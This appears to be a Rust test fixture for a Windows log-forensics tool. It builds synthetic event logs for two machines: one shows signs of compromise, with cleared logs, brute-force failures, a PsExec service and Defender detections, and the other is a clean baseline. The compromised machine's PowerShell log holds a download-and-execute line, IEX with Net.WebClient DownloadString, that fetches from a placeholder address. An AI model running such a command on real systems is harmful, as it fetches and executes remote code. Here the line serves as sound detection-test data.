//! Two computers by their logs: one to which everything happened that is looked for,
//! and one whose logs hold the same kinds of event and nothing amiss.

mod made;

use super::writer::{Data, Entry, Log, Style, Val, entry, owned, text, user_entry};
use evidence::{Kind, Observation, Sight, Subject, Value};
use jiff::Timestamp;
use made::{
    AUDITING, DEFENDER, GENERAL, LOGS, cleared, clock, disk, failure, firewall, logon, member, network, of,
    script, service, session, task, threat, update, wifi,
};
use rasoat_host::events::{Examination, Limits};
use std::collections::BTreeMap;

pub const AN: &str = "S-1-5-21-1-2-3-1001";
pub const ADMINISTRATOR: &str = "S-1-5-21-1-2-3-500";
const DAY: i64 = 86_400;
const HOUR: i64 = 3_600;

/// Midnight of 2026-06-01 in UTC, and so many seconds.
pub fn at(second: i64) -> Timestamp {
    Timestamp::from_second(1_780_272_000 + second).expect("an instant")
}

/// Logs by their names within the system.
pub type Logs = BTreeMap<&'static str, Vec<Entry>>;

pub fn written(channel: &str, entries: &[Entry], style: Style) -> Vec<u8> {
    let mut log = Log::new(channel, style);
    for entry in entries {
        log.add(entry);
    }
    log.done()
}

pub fn examined(logs: &Logs, style: Style) -> Vec<Observation> {
    let mut examination = Examination::new(Subject::new(Kind::Machine, "MAY-01"), None, Limits::default());
    for (channel, entries) in logs {
        let file = format!("{}.evtx", channel.replace('/', "%4"));
        let bytes = written(channel, entries, style);
        examination.read(&file, &mut bytes.as_slice()).expect("a log");
    }
    examination.done()
}

/// The records that were seen of an attribute.
pub fn records(observations: &[Observation], attribute: &str) -> Vec<BTreeMap<String, Value>> {
    let of = observations.iter().filter(|one| one.attribute == attribute);
    of.filter_map(|one| match &one.sight {
        Sight::Seen(Value::Record(fields)) => Some(fields.clone()),
        _ => None,
    })
    .collect()
}

/// A computer to which everything happened that is looked for.
pub fn amiss() -> Logs {
    let mut security = vec![
        cleared(1102, 0, ""),
        Entry {
            data: Data::User("AuditEventsDropped".into(), owned(&[("Reason", Val::Whole(0))])),
            ..entry(LOGS, 1101, at(5), &[])
        },
        of(
            AUDITING,
            4719,
            10,
            &[
                ("CategoryId", text("%%8273")),
                ("SubcategoryGuid", Val::Guid([9; 16])),
                ("AuditPolicyChanges", text("%%8448, %%8450")),
            ],
        ),
        clock(20, 40 * DAY, AN),
        of(AUDITING, 4720, 30, &[("TargetUserName", text("la")), ("TargetDomainName", text("MAY-01"))]),
        member(40, "S-1-5-32-544", "Administrators"),
        logon(50, 2, "Administrator", ADMINISTRATOR, "127.0.0.1"),
        task(60, r"\Cap nhat", r"C:\Users\Public\x.exe", "--khoa=bimat http://203.0.113.9/"),
        logon(70, 3, "an", AN, "203.0.113.77"),
        logon(80, 10, "an", AN, "203.0.113.78"),
    ];
    for nth in 0..6 {
        security.push(logon(90 + nth, 2, &format!("nguoi{nth}"), &format!("S-1-5-21-1-2-3-11{nth}0"), "-"));
    }
    for nth in 0..40 {
        security.push(failure(1_000 + nth * 10, &format!("nguoi{}", nth % 8), "203.0.113.9", 0xC000_0064));
        security.push(failure(1_005 + nth * 10, "an", "10.0.0.66", 0xC000_006A));
    }
    security.push(logon(1_500, 3, "an", AN, "10.0.0.66"));
    let system = vec![
        entry(GENERAL, 12, at(0), &[("StartTime", Val::Time(at(0)))]),
        entry("EventLog", 6005, at(10), &[]),
        entry("EventLog", 6005, at(5 * HOUR), &[]),
        cleared(104, 6 * HOUR, "Application"),
        entry("EventLog", 6008, at(7 * HOUR), &[]),
        entry("Microsoft-Windows-Kernel-Power", 41, at(7 * HOUR + 10), &[("BugcheckCode", Val::Whole(0))]),
        service(8 * HOUR, "PSEXESVC", r"%SystemRoot%\PSEXESVC.exe -bimat"),
        update(19, 9 * HOUR, "KB5000001"),
        update(20, 10 * HOUR, "KB5000002"),
        update(44, 11 * HOUR, "KB5000002"),
        entry(
            "Microsoft-Windows-Time-Service",
            37,
            at(12 * HOUR),
            &[("TimeSource", text("time.windows.com,0x9 (ntp.m|0x9|0.0.0.0:123->20.101.57.9:123)"))],
        ),
        entry("Microsoft-Windows-DNS-Client", 1014, at(13 * HOUR), &[("QueryName", text("www.example.org"))]),
        entry("Other", 1, at(90 * DAY), &[]),
    ];
    let out = [("Name", text("Server Name")), ("Value", text("203.0.113.50"))];
    let tether = [
        ("DeviceInstanceId", text(r"USB\VID_04E8&PID_6863\R58M123")),
        ("DriverName", text("netrndis.inf")),
        ("ClassGuid", text("{4d36e972-e325-11ce-bfc1-08002be10318}")),
    ];
    let attributes = owned(&[(
        "instance",
        text(
            r"WPDBUSENUMROOT\UMB\2&1&0&STORAGE#VOLUME#_??_USBSTOR#DISK&VEN_SANDISK&PROD_CRUZER&REV_1.26#200608767007B7C08A6A&0#",
        ),
    )]);
    let driver = entry("Microsoft-Windows-DriverFrameworks-UserMode", 2003, at(0), &[]);
    BTreeMap::from([
        ("Security", security),
        ("System", system),
        (
            "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
            vec![session(0, "LOCAL"), session(10, "203.0.113.79")],
        ),
        (
            "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
            vec![user_entry(
                "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
                1149,
                at(0),
                "EventXML",
                &[("Param1", text("an")), ("Param2", text("MAY-01")), ("Param3", text("192.168.1.9"))],
            )],
        ),
        (
            "Microsoft-Windows-TerminalServices-RDPClient/Operational",
            vec![Entry {
                user: Some(AN.into()),
                ..entry("Microsoft-Windows-TerminalServices-ClientActiveXCore", 1102, at(0), &out)
            }],
        ),
        (
            "Microsoft-Windows-Windows Defender/Operational",
            vec![
                threat(1116, 0, "Trojan:Win32/Xep", 0),
                threat(1118, 10, "Trojan:Win32/Xep", 2),
                threat(1117, 20, "HackTool:Win32/AutoKMS", 6),
                entry(DEFENDER, 5001, at(30), &[]),
            ],
        ),
        (
            "Microsoft-Windows-PowerShell/Operational",
            vec![script(0, 3, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/bimat')")],
        ),
        ("Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", vec![firewall(0, 0)]),
        (
            "Microsoft-Windows-DriverFrameworks-UserMode/Operational",
            vec![Entry { data: Data::Attributes("UMDFHostDeviceArrivalBegin".into(), attributes), ..driver }],
        ),
        (
            "Microsoft-Windows-Kernel-PnP/Configuration",
            vec![
                entry("Microsoft-Windows-Kernel-PnP", 400, at(0), &tether),
                entry(
                    "Microsoft-Windows-Kernel-PnP",
                    410,
                    at(5),
                    &[(
                        "DeviceInstanceId",
                        text(r"USBSTOR\Disk&Ven_Kingston&Prod_DT&Rev_PMAP\60A44C4138E8F131&0"),
                    )],
                ),
            ],
        ),
        ("Microsoft-Windows-Partition/Diagnostic", vec![disk(0, 7, r"USB\VID_0781&PID_5583\4C530001")]),
        (
            "Microsoft-Windows-NetworkProfile/Operational",
            vec![network(10000, 0, "NHA RIENG"), network(10001, 3_000, "NHA RIENG")],
        ),
        (
            "Microsoft-Windows-WLAN-AutoConfig/Operational",
            vec![wifi(8001, 0, "Ca phe", ["Open", "None"]), wifi(8003, 60, "Ca phe", ["Open", "None"])],
        ),
        (
            "Microsoft-Windows-TaskScheduler/Operational",
            vec![entry(
                "Microsoft-Windows-TaskScheduler",
                106,
                at(0),
                &[("TaskName", text(r"\Sao luu")), ("UserContext", text(r"MAY-01\an"))],
            )],
        ),
    ])
}

/// A computer whose logs hold the same kinds of event and nothing amiss.
pub fn quiet() -> Logs {
    let mut security = vec![
        of(
            AUDITING,
            4719,
            10,
            &[
                ("CategoryId", text("%%8273")),
                ("SubcategoryGuid", Val::Guid([9; 16])),
                ("AuditPolicyChanges", text("%%8449, %%8451")),
            ],
        ),
        clock(20, 30, AN),
        clock(30, 5 * HOUR, "S-1-5-19"),
        of(AUDITING, 4724, 40, &[("TargetUserName", text("an")), ("TargetDomainName", text("MAY-01"))]),
        member(50, "S-1-5-32-545", "Users"),
        member(55, "S-1-5-32-555", "Remote Desktop Users"),
        logon(60, 2, "an", AN, "127.0.0.1"),
        logon(61, 5, "SYSTEM", "S-1-5-18", "-"),
        logon(62, 3, "MAY-02$", "S-1-5-21-1-2-3-1200", "203.0.113.5"),
        logon(63, 3, "ANONYMOUS LOGON", "S-1-5-7", "203.0.113.5"),
        task(70, r"\Sao luu", r"C:\Program Files\Sao luu\b.exe", "/all"),
    ];
    for nth in 0..5 {
        security.push(failure(1_000 + nth * 10, "an", "-", 0xC000_006A));
    }
    security.push(logon(1_100, 2, "an", AN, "127.0.0.1"));
    security.push(entry("Other", 1, at(91 * DAY), &[]));
    let system = vec![
        entry(GENERAL, 12, at(0), &[]),
        entry("EventLog", 6005, at(10), &[]),
        entry(GENERAL, 13, at(9 * HOUR), &[]),
        entry(GENERAL, 12, at(DAY), &[]),
        entry("EventLog", 6005, at(DAY + 20), &[]),
        service(DAY + HOUR, "Sao luu", r#""C:\Program Files\Sao luu\b.exe" -service"#),
        update(20, 80 * DAY, "KB5000003"),
        update(19, 81 * DAY, "KB5000003"),
        entry(
            "Microsoft-Windows-Time-Service",
            35,
            at(82 * DAY),
            &[("TimeSource", text("Local CMOS Clock"))],
        ),
        entry("Other", 1, at(91 * DAY), &[]),
    ];
    BTreeMap::from([
        ("Security", security),
        ("System", system),
        ("Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", vec![session(0, "LOCAL")]),
        ("Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational", vec![]),
        ("Microsoft-Windows-TerminalServices-RDPClient/Operational", vec![]),
        (
            "Microsoft-Windows-Windows Defender/Operational",
            vec![entry(DEFENDER, 5001, at(0), &[]), entry(DEFENDER, 5000, at(10), &[])],
        ),
        (
            "Microsoft-Windows-PowerShell/Operational",
            vec![script(0, 5, "Get-ChildItem | Sort-Object Length")],
        ),
        ("Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", vec![firewall(0, 1)]),
        ("Microsoft-Windows-DriverFrameworks-UserMode/Operational", vec![]),
        (
            "Microsoft-Windows-Kernel-PnP/Configuration",
            vec![entry(
                "Microsoft-Windows-Kernel-PnP",
                400,
                at(0),
                &[
                    ("DeviceInstanceId", text(r"USB\VID_046D&PID_C077\7&1")),
                    ("DriverName", text("input.inf")),
                ],
            )],
        ),
        ("Microsoft-Windows-Partition/Diagnostic", vec![disk(0, 17, r"PCI\VEN_144D\4&1")]),
        ("Microsoft-Windows-NetworkProfile/Operational", vec![]),
        ("Microsoft-Windows-WLAN-AutoConfig/Operational", vec![]),
        ("Microsoft-Windows-TaskScheduler/Operational", vec![]),
    ])
}
